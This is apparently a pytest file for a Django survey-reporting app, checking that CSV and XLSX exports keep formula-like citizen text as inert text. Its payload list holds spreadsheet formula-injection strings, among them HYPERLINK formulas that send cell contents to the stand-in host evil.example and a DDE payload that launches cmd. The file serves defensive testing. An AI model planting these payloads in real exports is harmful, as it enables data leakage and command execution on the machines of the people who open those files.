"""Formula injection: citizen text that looks like a spreadsheet formula stays text in every export."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from reports.exports import jobs as export_jobs
from reports.exports import services as export_services
from reports.models import ExportJob
from surveys.models import Response
from surveys.textsafety import neutralise_csv
from tests.conftest import logged_in
from tests.world import World, build_world

pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "x;=10*10;",
    'baik,=HYPERLINK("http://evil.example";"klik")',
]
TEXT = " ".join(FORMULAS)
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _exports_in_tmp(settings: Any, tmp_path: Any) -> None:
    settings.EXPORT_ROOT = tmp_path / "exports"
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture
def world(city: Any, instrument: Any, secretariat: Any) -> World:
    world = build_world(city, instrument, secretariat, text=TEXT)

    for formula in FORMULAS:  # each payload alone, so a cell starts with it
        Response.objects.filter(
            pk__in=Response.objects.filter(unit=city.kelurahan, suggestion="").values("pk")[:1]
        ).update(suggestion=formula, service_other=formula[:200], occupation_other=formula[:100])
    return world


def _assert_no_formula_cells(data: bytes) -> int:
    workbook = load_workbook(io.BytesIO(data))
    text_cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and any(payload.strip() in value for payload in FORMULAS):
                    text_cells += 1
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {value!r}"
                    assert not value.startswith(DANGEROUS_START), f"{sheet.title}!{cell.coordinate}: {value!r}"
    return text_cells


def _job(world: World, user: Any, file_format: str) -> bytes:
    job = ExportJob.objects.create(
        requested_by=user,
        kind="raw",
        period=world.closed,
        unit=None,
        unit_ids=[world.city.kelurahan.pk],
        file_format=file_format,
    )
    job = export_jobs.export_job_run(job=job)
    path = export_services.job_file(job)
    assert path is not None, job.error
    return path.read_bytes()


def test_the_raw_xlsx_export_keeps_formula_like_text_as_text(world: World, kecamatan_admin: Any) -> None:
    assert _assert_no_formula_cells(_job(world, kecamatan_admin, "xlsx")) >= len(FORMULAS)


@pytest.mark.parametrize("file_format", ["csv", "csv-semicolon"])
def test_the_raw_csv_exports_neutralise_formula_like_text(world: World, kecamatan_admin: Any, file_format: str) -> None:
    text = _job(world, kecamatan_admin, file_format).decode("utf-8-sig")
    own = "," if file_format == "csv" else ";"
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=own))
    cells = [cell for row in rows for cell in row]
    assert neutralise_csv(TEXT) in cells  # all payloads in one suggestion: one field, with the file's separator
    assert neutralise_csv(FORMULAS[0]) in cells
    for separator in (",", ";", "\t"):  # and however the file is split, no cell starts a formula
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.lstrip(' "').startswith(DANGEROUS_START)], separator


def test_the_unit_workbook_and_city_recap_keep_formula_like_text_as_text(
    world: World, kecamatan_admin: Any, secretariat: Any
) -> None:
    workbook = logged_in(kecamatan_admin).get(
        f"/laporan/unit/{world.city.kelurahan.code}/periode/{world.closed.pk}/workbook.xlsx"
    )
    assert workbook.status_code == 200
    assert _assert_no_formula_cells(workbook.content) >= 1
    recap = logged_in(secretariat).get(f"/laporan/kota/periode/{world.closed.pk}/rekap.xlsx")
    assert recap.status_code == 200
    _assert_no_formula_cells(recap.content)
